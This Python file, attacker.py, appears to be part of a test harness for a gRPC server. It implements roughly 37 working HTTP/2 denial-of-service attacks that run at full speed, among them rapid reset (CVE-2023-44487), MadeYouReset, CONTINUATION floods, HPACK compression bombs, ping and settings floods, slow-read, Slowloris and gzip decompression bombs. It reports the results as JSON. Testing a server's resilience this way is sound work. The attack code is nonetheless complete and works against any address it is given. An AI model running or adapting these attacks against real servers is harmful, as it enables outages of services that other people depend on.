"""One attack on a server, at full speed, as a process of its own.

usage: attacker.py ATTACK ADDRESS SECONDS [CA]

With a file of authorities it speaks TLS to a server whose certificate is for "localhost".
Bytes are made before the clock starts, so that Python is no brake. An attacker that is cut off connects anew, as real
ones do. At the end one line of JSON says how often that was, how soon, and in which words.
"""

import json
import ssl
import struct
import sys
import threading
import time
import zlib

import hpack

from raw_connection import PREFACE, connect, message
from scenario_client import SERVICE

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
LARGEST_WINDOW = 2**31 - 1
STREAMS = 30_000
PIECE = 64 * 1024


def frame(kind, stream=0, payload=b"", flags=0):
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def request(method, fields=()):
    """The header block of a request, of a size that HPACK does not shrink: it can be sent again on any stream."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "a"),
              ("content-type", "application/grpc"), ("te", "trailers"), *fields]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


def number(value):
    return struct.pack(">I", value)


def streams(count=STREAMS):
    return range(1, 2 * count, 2)


def call(stream, block, body=message(b"x")):
    return frame(HEADERS, stream, block, END_HEADERS) + frame(DATA, stream, body, END_STREAM)


ACKNOWLEDGED = frame(SETTINGS, flags=ACK)
USUAL = [frame(SETTINGS)]
# A client that gives no credit for what it is sent.
WITHOUT_CREDIT = [frame(SETTINGS, payload=struct.pack(">HI", 4, 0))]


class Attack:
    """What to send: an opening, and then pieces, which are sent over and over if `repeats`."""

    def __init__(self, pieces, opening=USUAL, repeats=False, reads=True, pause=0.0, connections=1,
                 acknowledges=False):
        self.opening = PREFACE + b"".join(opening)
        self.pieces = pieces
        self.repeats = repeats
        self.reads = reads
        self.pause = pause
        self.connections = connections
        # Whether the server's SETTINGS are waited for and acknowledged, so that its windows are in force.
        self.acknowledges = acknowledges


def batches(parts, size=PIECE):
    """Joins parts into pieces of about `size` bytes; each part stays whole."""
    pieces, piece = [], bytearray()
    for part in parts:
        piece += part
        if len(piece) >= size:
            pieces.append(bytes(piece))
            piece = bytearray()
    return pieces + [bytes(piece)]


def rapid_reset(method, body=b""):
    """CVE-2023-44487: each stream is reset with the bytes that begin it."""
    block = request(method)
    return Attack(batches(
        frame(HEADERS, stream, block, END_HEADERS) + (frame(DATA, stream, body) if body else b"")
        + frame(RESET, stream, number(8)) for stream in streams()
    ))


def split_reset():
    """The same in small steps, so that handlers start before they are reset."""
    block = request("Sleep", [("x-ms", "3600000"), ("x-key", "attack")])
    parts = []
    for first in range(1, 2 * STREAMS, 100):
        group = range(first, first + 100, 2)
        parts.append(b"".join(call(stream, block) for stream in group))
        parts.append(b"".join(frame(RESET, stream, number(8)) for stream in group))
    return Attack(parts)


def made_you_reset():
    """CVE-2025-8671: a window that overflows has the server reset the stream, while the handler runs.

    It sleeps a second, because Swift's runtime keeps a sleep that was cancelled until it would have ended.
    """
    block = request("Sleep", [("x-ms", "1000"), ("x-key", "attack")])
    return Attack(batches(
        call(stream, block) + frame(WINDOW_UPDATE, stream, number(LARGEST_WINDOW)) for stream in streams()
    ))


def malformed_requests():
    """The same by header fields that HTTP/2 forbids."""
    block = request("Get", [("connection", "close")])
    return Attack(batches(frame(HEADERS, stream, block, END_HEADERS | END_STREAM) for stream in streams()))


def invalid_fields():
    """The same by a field without a name (CVE-2019-9516)."""
    block = request("Get") + b"\x00\x00\x00"
    return Attack(batches(frame(HEADERS, stream, block, END_HEADERS | END_STREAM) for stream in streams()))


def continuation_flood():
    """CVE-2024-28182: a head that does not end."""
    field = b"\x00\x01a\x7f\x80\x7d" + b"v" * 16_000
    return Attack([frame(CONTINUATION, 1, field) * 64], opening=USUAL + [frame(HEADERS, 1, request("Get"))],
                  repeats=True)


def slow_head():
    """The same by drops: a byte of a head now and then."""
    head = frame(HEADERS, 1, request("Get") + b"\x00\x01a\x7f\x80\x7d" + b"v" * 15_000, END_HEADERS)
    return Attack([b"v"] * 10_000, pause=0.05, opening=USUAL + [head[:200]])


def hpack_bomb():
    """CVE-2026-49975: one byte is a field of four thousand, and nothing of the answers is let out."""
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
    block = request("Get") + entry + b"\xbe" * 12_000
    again = request("Get") + b"\xbe" * 16_000
    return Attack(batches(
        [call(1, block)] + [call(stream, again) for stream in range(3, 2000, 2)]
    ), opening=WITHOUT_CREDIT)


BOMB = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000


def hpack_bomb_in_trailers():
    """The same in fields that nobody reads: the trailers of a request."""
    head = request("Get")
    return Attack(batches(
        frame(HEADERS, stream, head + (BOMB if stream == 1 else b""), END_HEADERS)
        + frame(HEADERS, stream, b"\xbe" * 16_000, END_HEADERS | END_STREAM) for stream in range(1, 2000, 2)
    ))


def hpack_bomb_refused():
    """The same on streams that are refused, for there are as many as there may be."""
    opened = b"".join(frame(HEADERS, stream, request("Sink"), END_HEADERS) for stream in range(1, 200, 2))
    head = request("Get")
    return Attack([opened] + batches(
        frame(HEADERS, stream, head + (BOMB if stream == 201 else b"\xbe" * 16_000), END_HEADERS | END_STREAM)
        for stream in range(201, 2201, 2)
    ))


def hpack_bomb_invalid(entry, first=b""):
    """The same where a field has the stream reset: one in front, or each."""
    return Attack(batches(
        frame(HEADERS, stream, request("Get") + first + (entry if stream == 1 else b"") + b"\xbe" * 12_000,
              END_HEADERS | END_STREAM) for stream in range(1, 4000, 2)
    ))


def commas():
    """A value of commas is as many values, each of which has the name."""
    name, value = b"n" * 1900 + b"-bin", b"," * 2000
    field = (b"\x40" + hpack.hpack.encode_integer(len(name), 7) + name
             + hpack.hpack.encode_integer(len(value), 7) + value)
    return Attack(batches(
        frame(HEADERS, stream, request("Sink") + (field if stream == 1 else b"\xbe" * (1 + stream % 2)), END_HEADERS)
        for stream in streams()
    ))


def encodings():
    """A list of encodings that is long, with a field that makes each head new."""
    value = b"a," * 1990
    field = (b"\x40" + hpack.hpack.encode_integer(20, 7) + b"grpc-accept-encoding"
             + hpack.hpack.encode_integer(len(value), 7) + value)
    return Attack(batches(
        call(stream, request("SynchronousGet", [("x-n", str(stream))]) + (field if stream == 1 else b"\xbe"))
        for stream in streams()
    ))


def small_decompression_bombs():
    """Each message is small enough to be inflated at once, and there are many."""
    bomb = message(zlib.compress(bytes(120 * 1024), 9, 31), 1)
    opening = USUAL + [frame(HEADERS, stream, request("Sink", [("grpc-encoding", "gzip")]), END_HEADERS)
                       for stream in range(1, 41, 2)]
    return Attack([b"".join(frame(DATA, stream, bomb * 50) for stream in range(1, 41, 2))], opening=opening,
                  repeats=True, pause=0.01)


def ping_flood(reads):
    """CVE-2019-9512: each wants an answer."""
    return Attack([frame(PING, payload=b"12345678") * 4000], repeats=True, reads=reads)


def settings_flood(reads, entries=0):
    """CVE-2019-9515, and with many entries CVE-2020-11080."""
    payload = struct.pack(">HI", 1, 4096) * entries
    return Attack([frame(SETTINGS, payload=payload) * (200_000 // (9 + len(payload)))], repeats=True, reads=reads)


def empty_data(padding=None):
    """CVE-2019-9518."""
    part = frame(DATA, 1) if padding is None else frame(DATA, 1, bytes([padding]) + bytes(padding), PADDED)
    opening = USUAL + [frame(HEADERS, 1, request("Sink"), END_HEADERS)]
    return Attack([part * (PIECE // len(part))], opening=opening, repeats=True)


def data_on_a_closed_stream():
    """Behind the client's own reset, where it is a fault (RFC 9113 §5.1)."""
    opening = USUAL + [frame(HEADERS, 1, request("Collect"), END_HEADERS), frame(RESET, 1, number(8))]
    return Attack([frame(DATA, 1) * 7000], opening=opening, repeats=True)


def priority_flood():
    """CVE-2019-9513: streams that do not exist are made to depend on each other."""
    return Attack(batches(
        frame(PRIORITY, stream, number(stream - 2 if stream > 1 else 99) + b"\x10") for stream in streams(100_000)
    ), repeats=True)


def window_update_flood():
    return Attack([frame(WINDOW_UPDATE, 0, number(1)) * 5000], repeats=True)


def unknown_frames():
    """Extension frames have to be ignored (RFC 9113 §5.5)."""
    return Attack([frame(0xFA) * 7000], repeats=True)


def reset_of_closed_streams():
    opening = USUAL + [call(1, request("SynchronousGet"))]
    return Attack([frame(RESET, 1, number(8)) * 5000], opening=opening, repeats=True)


def slow_read(reads, bytes_each):
    """CVE-2019-9517: answers are asked for, over and over, and not taken."""
    block = request("Large", [("x-bytes", str(bytes_each))])
    opening = WITHOUT_CREDIT if reads else [frame(SETTINGS, payload=struct.pack(">HI", 4, LARGEST_WINDOW)),
                                            frame(WINDOW_UPDATE, 0, number(LARGEST_WINDOW - 65_535))]
    return Attack(batches(call(stream, block) for stream in range(1, 200, 2)), opening=opening, reads=reads)


def slow_read_with_resets():
    """The same, and calls that wait for their turn are given up and made anew."""
    block = request("Large", [("x-bytes", "1000000")])
    parts = [call(stream, block) for stream in range(1, 199, 2)]
    parts += [call(stream, block) + frame(RESET, stream, number(8)) for stream in range(199, 2 * STREAMS, 2)]
    return Attack(batches(parts), opening=WITHOUT_CREDIT)


def silence(connections=200):
    """Slowloris: connections that say nothing."""
    attack = Attack([], connections=connections)
    attack.opening = b""
    return attack


def upload(payload):
    """As much as the windows let in, to handlers that read nothing."""
    block = request("Sink", [("x-pause-after", "0"), ("x-key", "never")])
    parts = [frame(HEADERS, stream, block, END_HEADERS) for stream in range(1, 201, 2)]
    body = payload * (16_000 // len(payload))
    # The connection's window is credited on receipt; the streams' are not: 256 KiB each.
    parts += [frame(DATA, stream, body) for _ in range(16) for stream in range(1, 201, 2)]
    return Attack(parts, acknowledges=True)


def after_the_end():
    """CVE-2026-27135: bytes behind what ends the connection, of kinds that were not expected there."""
    fault = frame(DATA, 0, b"x")
    rest = b"".join([
        frame(0x0A, 0, b"\x00\x01aclear"), frame(0x10, 0, number(1) + b"u=1"), frame(0x0C, 0, b"\x00\x01a"),
        frame(SETTINGS), frame(PING, payload=b"12345678"), call(1, request("Get")), frame(GOAWAY, 0, bytes(8)),
        frame(CONTINUATION, 1, b"\x82"), frame(PUSH_PROMISE, 1, number(2)), b"\xff" * 100,
    ])
    return Attack([fault + rest * 50, rest * 500], repeats=False)


def push_promises():
    """A client may not push (RFC 9113 §8.4)."""
    opening = USUAL + [frame(HEADERS, 1, request("Sink"), END_HEADERS)]
    return Attack([frame(PUSH_PROMISE, 1, number(2) + request("Get"), END_HEADERS) * 1000], opening=opening)


ATTACKS = {
    "rapid-reset-synchronous": lambda: rapid_reset("SynchronousGet", message(b"x")),
    "rapid-reset-asynchronous": lambda: rapid_reset("Collect"),
    "split-reset": split_reset,
    "made-you-reset": made_you_reset,
    "malformed-requests": malformed_requests,
    "invalid-fields": invalid_fields,
    "continuation-flood": continuation_flood,
    "slow-head": slow_head,
    "hpack-bomb": hpack_bomb,
    "hpack-bomb-in-trailers": hpack_bomb_in_trailers,
    "hpack-bomb-refused": hpack_bomb_refused,
    "hpack-bomb-behind-an-invalid-field": lambda: hpack_bomb_invalid(BOMB, b"\x00\x01b\x01\x00"),
    "hpack-bomb-of-invalid-fields": lambda: hpack_bomb_invalid(BOMB[:-1] + b"\x00"),
    "commas": commas,
    "encodings": encodings,
    "small-decompression-bombs": small_decompression_bombs,
    "ping-flood": lambda: ping_flood(True),
    "ping-flood-unread": lambda: ping_flood(False),
    "settings-flood": lambda: settings_flood(True),
    "settings-flood-unread": lambda: settings_flood(False),
    "settings-flood-large": lambda: settings_flood(True, 32),
    "settings-of-too-many-entries": lambda: settings_flood(True, 2000),
    "empty-data": empty_data,
    "padding-only": lambda: empty_data(1),
    "data-on-a-closed-stream": data_on_a_closed_stream,
    "priority-flood": priority_flood,
    "window-update-flood": window_update_flood,
    "unknown-frames": unknown_frames,
    "reset-of-closed-streams": reset_of_closed_streams,
    "zero-window": lambda: slow_read(True, 2_000_000),
    "unread-socket": lambda: slow_read(False, 2_000_000),
    "zero-window-and-resets": slow_read_with_resets,
    "silence": silence,
    "upload": lambda: upload(message(b"u" * 15_995)),
    "upload-of-small-messages": lambda: upload(message(b"u")),
    "after-the-end": after_the_end,
    "push-promises": push_promises,
}


class SecureSocket:
    """TLS on a socket, for a thread that writes beside one that reads: ssl's own sockets are not made for that."""

    def __init__(self, plain, context):
        self.plain = plain
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname="localhost")
        self.lock = threading.Lock()
        # What is encrypted and not sent, and how much it is of what the caller gave.
        self.unsent, self.unsent_plain = memoryview(b""), 0
        self.shake_hands()

    def shake_hands(self):
        self.plain.settimeout(10)
        while True:
            try:
                self.tls.do_handshake()
                return self.plain.sendall(self.outgoing.read())
            except ssl.SSLWantReadError:
                self.plain.sendall(self.outgoing.read())
                self.take(self.plain.recv(PIECE))

    def take(self, data):
        if not data:
            raise ConnectionError("closed")
        self.incoming.write(data)

    def recv(self, count):
        while True:
            with self.lock:
                try:
                    return self.tls.read(count)
                except ssl.SSLWantReadError:
                    pass
            data = self.plain.recv(count)
            if not data:
                return b""
            with self.lock:
                self.incoming.write(data)

    def send(self, view):
        """How many of these bytes were sent; none when it timed out, then the same have to come again."""
        if not self.unsent and len(view):
            with self.lock:
                self.unsent_plain = self.tls.write(view[:PIECE])
                self.unsent = memoryview(self.outgoing.read())
        while self.unsent:
            self.unsent = self.unsent[self.plain.send(self.unsent):]
        return self.unsent_plain

    def __getattr__(self, name):
        return getattr(self.plain, name)


class Listener:
    """Takes what the server says, and knows GOAWAY when it comes."""

    def __init__(self, connected):
        self.buffer = bytearray()
        self.goaway = None
        self.is_closed = False
        self.has_settings = threading.Event()
        self.connected = connected

    def run(self):
        try:
            while data := self.connected.recv(262_144):
                self.feed(data)
        except OSError:
            pass
        self.is_closed = True

    def feed(self, data):
        self.buffer += data
        position = 0
        while len(self.buffer) - position >= 9:
            length = int.from_bytes(self.buffer[position:position + 3], "big")
            if len(self.buffer) - position < 9 + length:
                break
            if self.buffer[position + 3] == SETTINGS:
                self.has_settings.set()
            if self.buffer[position + 3] == GOAWAY:
                payload = bytes(self.buffer[position + 9:position + 9 + length])
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (code, payload[8:].decode("latin-1"))
            position += 9 + length
        del self.buffer[:position]


class Attacker:
    """One connection after another, until time is up."""

    def __init__(self, attack, address, end, tls):
        self.attack = attack
        self.address = address
        self.end = end
        self.tls = tls
        self.connections = 0
        self.cut_off_after = []
        self.bytes_sent = 0
        self.goaways = []

    def run(self):
        while time.monotonic() < self.end:
            try:
                self.connect_once()
            except OSError:
                time.sleep(0.01)

    def connect_once(self):
        connected = connect(self.address)
        self.connections += 1
        began = time.monotonic()
        if self.tls:
            connected = SecureSocket(connected, self.tls)
        connected.settimeout(0.1)
        listener = Listener(connected)
        thread = threading.Thread(target=listener.run)
        if self.attack.reads:
            connected.settimeout(None)
            thread.start()
        try:
            self.send_all(connected, listener)
            while not listener.is_closed and time.monotonic() < self.end:
                if not self.attack.reads and self.peek(connected):
                    break
                time.sleep(0.01)
        except OSError:
            listener.is_closed = True
        if listener.is_closed or not self.attack.reads and time.monotonic() < self.end:
            self.cut_off_after.append(time.monotonic() - began)
        try:
            connected.shutdown(2)
        except OSError:
            pass
        if self.attack.reads:
            thread.join()
        connected.close()
        if listener.goaway:
            self.goaways.append(listener.goaway)

    @staticmethod
    def peek(connected):
        """Whether the connection was reset; what is there to be read stays there."""
        connected.setblocking(False)
        try:
            getattr(connected, "plain", connected).send(b"")
            return connected.getsockopt(1, 4) != 0
        finally:
            connected.settimeout(0.1)

    def send_all(self, connected, listener):
        self.send(connected, self.attack.opening, listener)
        if self.attack.acknowledges:
            listener.has_settings.wait(5)
            self.send(connected, ACKNOWLEDGED, listener)
        while True:
            for piece in self.attack.pieces:
                if listener.is_closed or time.monotonic() > self.end:
                    return
                self.send(connected, piece, listener)
                if self.attack.pause:
                    time.sleep(self.attack.pause)
            if not self.attack.repeats:
                return

    def send(self, connected, data, listener):
        view = memoryview(data)
        while view and not listener.is_closed and time.monotonic() < self.end:
            try:
                sent = connected.send(view)
            except TimeoutError:
                continue
            self.bytes_sent += sent
            view = view[sent:]


def main():
    name, address, seconds, *authorities = sys.argv[1:]
    tls = None
    if authorities:
        tls = ssl.create_default_context(cafile=authorities[0])
        tls.set_alpn_protocols(["h2"])
    attack = ATTACKS[name]()
    print("ready", flush=True)
    end = time.monotonic() + float(seconds)
    attackers = [Attacker(attack, address, end, tls) for _ in range(attack.connections)]
    threads = [threading.Thread(target=attacker.run) for attacker in attackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({
        "connections": sum(attacker.connections for attacker in attackers),
        "cut_off": sum(len(attacker.cut_off_after) for attacker in attackers),
        "first_cut_off_seconds": min((min(a.cut_off_after) for a in attackers if a.cut_off_after), default=None),
        "bytes_sent": sum(attacker.bytes_sent for attacker in attackers),
        "goaways": sorted({goaway for attacker in attackers for goaway in attacker.goaways}),
    }))


if __name__ == "__main__":
    main()
